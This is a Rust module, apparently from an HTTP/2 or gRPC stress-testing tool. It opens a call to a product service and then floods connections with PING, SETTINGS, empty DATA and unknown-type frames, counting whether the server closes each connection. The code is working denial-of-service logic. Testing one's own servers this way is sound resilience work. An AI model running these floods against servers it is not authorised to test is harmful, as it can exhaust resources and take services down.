//! Control frames without end, and data that is none.

use anyhow::Result;
use tokio::task::JoinSet;

use super::{Attack, Tally, add_up, write_and_listen};
use crate::frames::{DATA, END_HEADERS, HEADERS, PING, call, frame, settings};

/// Frames that are written in one piece.
const PIECE: usize = 1000;

pub(super) async fn run(attack: &Attack) -> Result<Tally> {
    // A call that stays open: a connection without one is closed for that alone.
    let first = frame(HEADERS, END_HEADERS, 1, &call("/productpb.ProductService/New", &[]));
    let floods = [
        ("pings", frame(PING, 0, 0, &[7; 8])),
        ("settings", settings(&[(4, 65_535)])),
        ("empty data", frame(DATA, 0, 1, &[])),
        ("unknown frames", frame(0xbe, 0, 0, &[7; 8])),
    ];
    let mut lines = JoinSet::new();
    for (what, one) in floods {
        let first = first.clone();
        let Ok(line) = attack.begin(&[]).await else { continue };
        let (count, until) = (attack.count / 4, attack.until);
        lines.spawn(async move {
            let bytes = [first, one.repeat(count.div_ceil(PIECE) * PIECE)].concat();
            let (_, closed) = write_and_listen(
                line,
                &bytes,
                until.min(tokio::time::Instant::now() + std::time::Duration::from_secs(10)),
            )
            .await;
            vec![(what, count), ("closed by the server", usize::from(closed))]
        });
    }
    add_up(lines).await
}
